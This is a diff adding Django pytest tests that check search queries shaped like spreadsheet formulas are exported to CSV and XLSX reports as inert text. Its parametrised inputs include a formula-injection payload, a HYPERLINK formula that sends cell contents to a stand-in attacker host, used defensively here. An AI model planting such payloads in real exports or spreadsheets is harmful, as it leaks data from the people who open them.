@@ -17,11 +17,13 @@ from bs4 import BeautifulSoup
 from django.apps import apps
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group, Permission
+from django.test import Client
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from search.models import OpenedResult, QueryStat
 from search.querylog import record, record_opened, week_of
-from search.reports import week_label
+from navigator.reports import week_label
 from services.models import ServicePage
 from situations.models import SituationPage
 from tests.search.conftest import BROWSER, LOG_WRITE_SAVEPOINT_QUERIES
@@ -223,6 +225,34 @@ def test_reports_export_xlsx(superuser_client, dataset):
         response = superuser_client.get(reverse(name), {"export": "xlsx"})
         assert response.status_code == 200
         assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
+
+
+def xlsx_rows(client, name, **params):
+    response = client.get(reverse(name), {**params, "export": "xlsx"})
+    assert response.status_code == 200
+    return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.iter_rows(min_row=2))
+
+
+@pytest.mark.parametrize("query", ['=hyperlink("http://evil.example/?d="&a1,"klikni")', "+1+1", "-1+1",
+                                   "@sum(1+1)"])
+def test_a_visitors_query_that_looks_like_a_formula_reaches_spreadsheets_as_text(superuser_client, query):
+    visitor = Client(HTTP_HOST="localhost")
+    assert visitor.get("/hledat/", {"q": query}).status_code == 200
+    _heading, rows = export(superuser_client, "search_querystat_report", query=query)
+    assert [row[1] for row in rows] == ["'" + query]  # a spreadsheet shows a cell after an apostrophe as text
+    [cell] = [row[1] for row in xlsx_rows(superuser_client, "search_querystat_report", query=query)]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (query, "s", True)
+
+
+def test_a_formula_whose_result_was_opened_reaches_the_opened_results_as_text(superuser_client):
+    query = '=hyperlink("http://evil.example","klikni")'
+    licence = SituationPage.objects.get(slug="ridicsky-prukaz")
+    visitor = Client(HTTP_HOST="localhost", **BROWSER)
+    assert visitor.get("/hledat/otevrit/", {"q": query, "r": licence.pk, "p": 1}).status_code == 302
+    _heading, rows = export(superuser_client, "search_opened_results_report")
+    assert [row[1:3] for row in rows] == [["'" + query, licence.title]]
+    [cell] = [row[1] for row in xlsx_rows(superuser_client, "search_opened_results_report")]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (query, "s", True)
 
 
 def test_opened_results_of_a_deleted_page_go_with_it(dataset):
